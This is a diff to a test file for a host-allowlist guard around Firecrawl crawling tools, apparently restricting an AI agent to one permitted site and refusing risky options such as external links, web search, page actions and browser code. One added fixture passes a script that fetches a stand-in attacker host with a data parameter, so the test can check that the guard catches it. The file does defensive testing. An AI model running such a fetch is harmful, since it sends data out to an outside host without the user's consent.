@@ -41,6 +41,7 @@ describe('hosts that may be crawled', () => {
     [{ deep: { links: [{ url: 'https://evil.net' }] } }, 'evil.net'],
     [{ prompt: 'compare https://example.com/a with (https://evil.net/b)' }, 'evil.net'],
     [{ url: '//evil.net' }, 'evil.net'],
+    [{ url: 'https://example.com', script: "fetch('//evil.net/?d=1')" }, 'evil.net'],
     [{ url: 'https://example.com https://evil.net' }, 'cannot be read'],
     [{ url: 'https://[::1' }, 'cannot be read'],
   ])('are looked for in all arguments: %j', (given, says) => {
@@ -55,7 +56,16 @@ describe('hosts that may be crawled', () => {
     ['firecrawl_crawl', { url: 'https://example.com', allowExternalLinks: true }, /allowExternalLinks/],
     ['firecrawl_crawl', { url: 'https://example.com', allowExternalLinks: false }, undefined],
     ['firecrawl_extract', { urls: ['https://example.com'], enableWebSearch: true }, /enableWebSearch/],
-    ['firecrawl_agent', { prompt: 'find it anywhere' }, /name the address/],
+    ['firecrawl_scrape', { url: 'https://example.com', actions: [{ type: 'click', selector: 'a' }] }, /actions/],
+    ['firecrawl_agent', { prompt: 'find it anywhere' }, /firecrawl_agent may read hosts/],
+    [
+      'firecrawl_agent',
+      { prompt: 'find it anywhere', urls: ['https://example.com'] },
+      /firecrawl_agent may read hosts/,
+    ],
+    ['firecrawl_agent_status', { id: '7' }, undefined],
+    ['firecrawl_browser_execute', { code: "page.goto('https://example.com')" }, /code/],
+    ['firecrawl_extract', { prompt: 'find it' }, /name the address/],
     ['firecrawl_scrape', {}, /name the address/],
   ])('leave %s with %j as it should be', (tool, given, says) => {
     const refusal = refusalOf(tool, given, parse('example.com'))
